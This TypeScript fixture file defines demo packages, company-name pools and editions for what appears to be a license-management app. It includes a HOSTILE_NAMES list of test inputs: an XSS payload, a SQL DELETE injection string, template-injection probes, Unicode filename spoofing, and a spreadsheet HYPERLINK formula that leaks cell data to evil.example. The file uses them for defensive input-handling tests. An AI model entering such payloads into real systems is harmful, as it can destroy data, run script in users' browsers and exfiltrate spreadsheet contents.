/** Fixed shape of the demo partner: its packages, and the text pools the generator draws from. */
export interface DemoPackageSpec {
  readonly name: string;
  readonly namespace: string;
  /** Share of all licenses. */
  readonly weight: number;
  /** Years of release history before "today". */
  readonly historyYears: number;
  /** Released versions, oldest first; a beta of the next one follows when `betaNext`. */
  readonly versions: readonly string[];
  readonly betaNext?: string;
  /** No release for this long: a retired product. */
  readonly quietDays?: number;
}

export const DEMO_PACKAGES: readonly DemoPackageSpec[] = [
  { name: 'Acme Billing', namespace: 'acmebill', weight: 0.45, historyYears: 5, versions: ['1.0.0', '1.1.0', '1.2.0', '1.3.1', '1.9.0', '1.10.0', '2.0.0', '2.1.0', '2.2.3', '2.3.0'], betaNext: '2.4.0' },
  { name: 'Acme CPQ Connector', namespace: 'acmecpq', weight: 0.25, historyYears: 3, versions: ['1.0.0', '1.1.0', '1.2.0', '1.3.0', '1.4.2', '1.5.0'] },
  { name: 'Acme Field Service', namespace: 'acmefs', weight: 0.2, historyYears: 2, versions: ['0.9.0', '1.0.0', '1.1.0', '1.2.0'], betaNext: '1.3.0' },
  { name: 'Acme Insights (legacy)', namespace: 'acmeins', weight: 0.1, historyYears: 6, versions: ['3.0.0', '3.1.0', '3.2.0'], quietDays: 700 },
];

export const COMPANY_FIRST = ['Blue', 'North', 'Silver', 'Bright', 'Red', 'Green', 'Pacific', 'Atlas', 'Summit', 'Harbor', 'Granite', 'Cedar', 'Nova', 'Apex', 'Iron', 'Golden', 'River', 'Stone', 'Pioneer', 'Crystal'];
export const COMPANY_SECOND = ['Logistics', 'Health', 'Foods', 'Energy', 'Systems', 'Retail', 'Capital', 'Labs', 'Motors', 'Media', 'Insurance', 'Telecom', 'Pharma', 'Robotics', 'Analytics', 'Travel', 'Textiles', 'Builders', 'Solar', 'Dynamics'];
export const COMPANY_SUFFIX = ['Inc.', 'LLC', 'GmbH', 'Ltd', 'S.A.', 'AG', 'BV', 'Pty Ltd', 'KK', 'Corp.'];

/**
 * Customer text is hostile: the first subscriber orgs carry these names so every demo, test and
 * screenshot meets them, whatever the data size.
 */
export const HOSTILE_NAMES: readonly (string | null)[] = [
  '<img src=x onerror=alert(1)>',
  `O'Brien & "Sons" <b>Ltd</b>`,
  'Müller GmbH — 株式会社テスト 🚀',
  `Very Long Name ${'Corporation of Extremely Long Names '.repeat(7)}`.slice(0, 255),
  "'; DELETE FROM sfLma__License__c; -- \\ %_ ",
  null,
  '${process.env.HOME} {{constructor.constructor}} %s %n [link](javascript:alert(1))',
  'Evil\u202Egnp.exe\u200B Ltd\nSecond line',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")',
];

export const EDITIONS: readonly (readonly [string, number])[] = [
  ['Enterprise Edition', 45],
  ['Unlimited Edition', 20],
  ['Professional Edition', 15],
  ['Developer Edition', 10],
  ['Performance Edition', 5],
  ['Partner Developer Edition', 5],
];

export const PRODUCTION_PODS = ['NA', 'EU', 'AP', 'USA', 'CAN'];
